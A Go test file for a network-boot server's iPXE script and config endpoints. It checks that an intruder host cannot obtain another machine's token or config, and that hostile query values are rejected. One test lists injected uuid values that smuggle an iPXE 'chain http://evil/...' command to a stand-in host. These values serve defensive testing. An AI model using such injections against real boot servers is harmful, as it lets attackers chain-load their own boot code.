package bootflow

import (
	"errors"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/tinderbox-boot/tinderbox/internal/cache"
	"github.com/tinderbox-boot/tinderbox/pkg/machine"
)

// The intruder is a second host on the boot LAN with its own MAC and
// address, asking for another machine's script and config over plain HTTP.
var (
	macIntruder = machine.MustParseMAC("02:00:00:00:00:66")
	intruder    = netip.MustParseAddr("127.1.0.102")
)

func scriptPath(mac machine.MAC) string {
	return "/ipxe?" + url.Values{"mac": {mac.Dashed()}, "uuid": {testUUID}, "arch": {"x86_64"}}.Encode()
}

// TestBindingRefusesOtherHosts walks the attack of issue 15: a host asks
// for cp-01's script and config. It never gets the token or the config,
// and never moves cp-01's state; cp-01 itself installs as before.
func TestBindingRefusesOtherHosts(t *testing.T) {
	e := newEnv(t, "exit", machine.UnknownMaintenance, nil)
	e.neigh.set(intruder, macIntruder)

	// Before cp-01 ever booted: refused, and no record is made.
	code, body := e.getFrom(t, intruder, scriptPath(macOnce))
	if code != http.StatusForbidden || strings.Contains(body, "token=") {
		t.Fatalf("intruder's script for a fresh machine: got %d %q, want 403 without a token", code, body)
	}
	if _, ok, _ := e.store.Get(macOnce); ok {
		t.Error("the intruder's request made a record")
	}

	// cp-01 boots itself: its script carries its config URL.
	code, body = e.get(t, scriptPath(macOnce))
	if code != http.StatusOK {
		t.Fatalf("cp-01's own script: %d %q", code, body)
	}
	cfg := configPath(t, e, body)
	before := e.machine(t, macOnce)

	// The intruder asks again, then presents cp-01's own config URL.
	if code, body := e.getFrom(t, intruder, scriptPath(macOnce)); code != http.StatusForbidden || strings.Contains(body, "token=") {
		t.Errorf("intruder's script for a pending machine: got %d %q, want 403 without a token", code, body)
	}
	if code, body := e.getFrom(t, intruder, cfg); code != http.StatusForbidden || body != refusedConfig {
		t.Errorf("intruder with cp-01's token: got %d %q, want the uniform refusal", code, body)
	}
	e.waitEvent(t, macOnce, "config: request for cp-01")
	after := e.machine(t, macOnce)
	if after.State != machine.Pending || after.Generation != before.Generation || after.IP != before.IP {
		t.Errorf("the intruder moved cp-01: before %s gen %d ip %s, after %s gen %d ip %s",
			before.State, before.Generation, before.IP, after.State, after.Generation, after.IP)
	}

	// cp-01 fetches its config and is installing; the intruder's script
	// request now gets what cp-01 would (its disk), without a token, and
	// does not mark cp-01 installed.
	if code, _ := e.get(t, cfg); code != http.StatusOK {
		t.Fatalf("cp-01's own config: %d", code)
	}
	code, body = e.getFrom(t, intruder, scriptPath(macOnce))
	if code != http.StatusOK || !strings.Contains(body, "\nexit 1\n") || strings.Contains(body, "token=") {
		t.Errorf("intruder's script for an installing machine: got %d %q, want the local-boot script", code, body)
	}
	if st := e.machine(t, macOnce).State; st != machine.Installing {
		t.Errorf("after the intruder's script request: state %s, want installing", st)
	}

	// The log says who asked, who the address is, and where cp-01 is.
	logs := e.logs.String()
	for _, want := range []string{
		"request for cp-01 (52:54:00:00:00:01) from 127.1.0.102, which is 02:00:00:00:00:66",
		"cp-01 (52:54:00:00:00:01) was last at " + hostOf(macOnce).String(),
	} {
		if !strings.Contains(logs, want) {
			t.Errorf("log lacks %q:\n%s", want, logs)
		}
	}
}

// TestBindingMadeUpMACs: requests for MACs nothing vouches for (no profile,
// no DHCP exchange, no neighbour entry) get the secret-free maintenance
// script and leave no record, with binding on and off.
func TestBindingMadeUpMACs(t *testing.T) {
	for _, binding := range []bool{true, false} {
		e := newEnvBinding(t, "exit", machine.UnknownMaintenance, nil, binding)
		for i := range 20 {
			mac := machine.MAC{0x02, 0xde, 0xad, 0, 0, byte(i)}
			code, body := e.getFrom(t, nobody, scriptPath(mac))
			if code != http.StatusOK || !strings.Contains(body, "maintenance-mode boot") {
				t.Fatalf("binding %v: made-up %s: got %d %q, want the maintenance script", binding, mac, code, body)
			}
			if _, ok, _ := e.store.Get(mac); ok {
				t.Errorf("binding %v: made-up %s got a record", binding, mac)
			}
		}
	}
}

// TestBindingOff: with binding off the token goes to whoever asks (the
// documented trade-off), but unknown MACs still make no records.
func TestBindingOff(t *testing.T) {
	e := newEnvBinding(t, "exit", machine.UnknownMaintenance, nil, false)
	code, body := e.getFrom(t, intruder, scriptPath(macOnce))
	if code != http.StatusOK || !strings.Contains(body, "token=") {
		t.Fatalf("binding off: got %d %q, want cp-01's script", code, body)
	}
	if code, _ := e.getFrom(t, intruder, configPath(t, e, body)); code != http.StatusOK {
		t.Errorf("binding off: config with the token: got %d, want 200", code)
	}
}

// TestHostileQueryValues: a uuid that is not a canonical SMBIOS UUID is
// dropped before it is stored or reaches a kernel argument, and overlong
// values are refused.
func TestHostileQueryValues(t *testing.T) {
	e := newEnv(t, "exit", machine.UnknownMaintenance, nil)
	e.neigh.set(hostOf(macOnce), macOnce)
	for _, uuid := range []string{
		"x\nchain http://evil/evil.ipxe",
		"8a3b5c1e-0f2d-4e6a-9b7c-1d2e3f4a5b6c\nchain http://evil/",
		"${uuid}", "8a3b5c1e 0f2d 4e6a 9b7c 1d2e3f4a5b6c", "8a3b5c1e-0f2d-4e6a-9b7c-1d2e3f4a5b6",
		"00000000-0000-0000-0000-000000000000", "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", // SMBIOS "not set"
	} {
		path := "/ipxe?" + url.Values{"mac": {macOnce.Dashed()}, "uuid": {uuid}, "arch": {"x86_64"}}.Encode()
		code, body := e.getFrom(t, hostOf(macOnce), path)
		if code != http.StatusOK || strings.Contains(body, "evil") {
			t.Errorf("uuid %q: got %d\n%s", uuid, code, body)
		}
		if m := e.machine(t, macOnce); m.UUID != "" {
			t.Errorf("uuid %q stored as %q", uuid, m.UUID)
		}
	}
	long := strings.Repeat("a", 500<<10)
	for _, q := range []url.Values{
		{"mac": {macOnce.Dashed()}, "uuid": {long}},
		{"mac": {long}},
		{"mac": {macOnce.Dashed()}, "arch": {long}},
	} {
		if code, _ := e.getFrom(t, hostOf(macOnce), "/ipxe?"+q.Encode()); code != http.StatusBadRequest {
			t.Errorf("overlong query: got %d, want 400", code)
		}
	}
}

// TestRefusalsOnTheTimeline: what tinderbox itself refuses or fails lands
// on the machine's timeline with its reason: a script the factory could
// not help with, a script refused to another host, an asset not served.
func TestRefusalsOnTheTimeline(t *testing.T) {
	e := newEnv(t, "exit", machine.UnknownMaintenance, errors.New("factory: 503 Service Unavailable"))
	e.neigh.set(intruder, macIntruder)
	seed(t, e, macOnce)

	if code, _ := e.get(t, scriptPath(macOnce)); code != http.StatusBadGateway {
		t.Fatalf("script with the factory down: got %d, want 502", code)
	}
	e.waitKind(t, macOnce, machine.EventRefused, "script: 502, kernel command line for 52:54:00:00:00:01")

	e.flow.opts.Cmdlines = fakeCmdlines{}
	if code, _ := e.getFrom(t, intruder, scriptPath(macOnce)); code != http.StatusForbidden {
		t.Fatalf("intruder's script: got %d, want 403", code)
	}
	e.waitKind(t, macOnce, machine.EventRefused, "script: 403, request for cp-01")

	e.flow.AssetSent(t.Context(), cache.Sent{Remote: hostOf(macOnce), Key: cache.Key{Schematic: schematic, Version: "v9.9.9", File: "kernel-amd64"},
		Status: http.StatusNotFound, Failure: "no profile and no cache.allow entry names its image"})
	e.waitKind(t, macOnce, machine.EventRefused, "asset kernel-amd64: 404, no profile")
}

// waitKind waits for mac's newest event of kind k to start with detail:
// refusals are recorded in the background, after the answer.
func (e *env) waitKind(t *testing.T, mac machine.MAC, k machine.EventKind, detail string) {
	t.Helper()
	var last machine.Event
	for range 500 {
		m, _, err := e.store.Get(mac)
		if err != nil {
			t.Fatal(err)
		}
		if ev, ok := m.LastEvent(k); ok {
			last = ev
			if strings.HasPrefix(ev.Detail, detail) {
				return
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("%s: no %s event %q; the last was %+v", mac, k, detail, last)
}
